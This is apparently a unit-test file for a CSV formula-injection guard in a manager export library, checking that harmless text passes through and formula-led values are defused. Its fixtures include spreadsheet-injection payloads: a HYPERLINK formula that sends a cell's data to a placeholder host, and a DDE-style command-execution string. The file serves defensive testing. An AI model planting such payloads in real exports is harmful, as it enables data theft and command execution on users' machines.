// Issue 17, finding 6: the CSV formula guard altered harmless text ("-10 degrees…" became
// "'-10 degrees…"). It now leaves numbers and plain text alone and still defuses what a
// spreadsheet would run (OWASP CSV injection guidance; ASVS 5 V1.2.10; CWE-1236): =, +, @, tab,
// CR, LF and NUL first, those after leading spaces, and a "-" followed by formula syntax. It
// also quotes a field holding a semicolon or a tab, the separators of other locales, so no
// value can start a cell of its own there.
import { describe, expect, it } from "vitest";
import { csvField, looksLikeFormula } from "@/lib/manager/csv";

describe("the CSV formula guard", () => {
  it("leaves numbers and plain text alone", () => {
    expect(csvField("-10 degrees in the dining room")).toBe("-10 degrees in the dining room");
    expect(csvField("- cold soup, again")).toBe('"- cold soup, again"');
    expect(csvField("-10")).toBe("-10");
    expect(csvField("+3.5")).toBe("+3.5");
    expect(csvField("-1,250.00")).toBe('"-1,250.00"');
    expect(csvField("The soup was cold")).toBe("The soup was cold");
    expect(csvField(-12)).toBe("-12");
  });

  it("defuses =, +, @, tab-, CR- and LF-led text and the dangerous minus", () => {
    for (const [text, out] of [
      ["=1+2", "'=1+2"],
      ['=HYPERLINK("http://x.example/?"&A1)', '"\'=HYPERLINK(""http://x.example/?""&A1)"'],
      ["+44 20 7946 0000", "'+44 20 7946 0000"],
      ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
      ["\t=1+2", '"\'\t=1+2"'],
      ["\r=1+2", '"\'\r=1+2"'],
      ["\n=1+2", '"\'\n=1+2"'],
      ["  =1+2", "'  =1+2"],
      ["-2+3", "'-2+3"],
      ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
      ["-SUM(A1:A9)", "'-SUM(A1:A9)"],
      ["-A1*2", "'-A1*2"],
      ["  -2+3", "'  -2+3"],
    ] as const) {
      expect(csvField(text), JSON.stringify(text)).toBe(out);
      expect(looksLikeFormula(text), JSON.stringify(text)).toBe(true);
    }
  });

  it("quotes a semicolon or a tab inside a field, so other locales' separators cannot start a cell", () => {
    expect(csvField("fine;=1+2")).toBe('"fine;=1+2"');
    expect(csvField("fine\t=1+2")).toBe('"fine\t=1+2"');
  });
});
